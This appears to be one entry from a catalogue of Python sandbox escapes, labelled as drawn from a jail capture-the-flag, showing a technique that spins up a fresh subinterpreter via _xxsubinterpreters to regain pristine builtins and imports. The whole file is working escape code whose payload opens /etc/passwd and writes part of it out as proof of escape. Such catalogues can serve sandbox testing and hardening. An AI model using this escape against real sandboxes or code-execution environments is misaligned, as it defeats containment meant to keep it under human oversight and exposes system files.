# escape: 097
# technique: _xxsubinterpreters.create/run_string: a fresh interpreter with pristine builtins, sys.modules and import system
# family: interp
# goal: exec
# max-python: 3.12
# first-seen: variation (PEP 554); jailctf
import _xxsubinterpreters as i
n = i.create()
i.run_string(n, "import os; b = os.read(os.open('/etc/passwd', 0), 30); b'root:' in b and os.write(1, b'ESCAPED:subinterpreter ' + b[:12] + b'\\n')")
i.destroy(n)
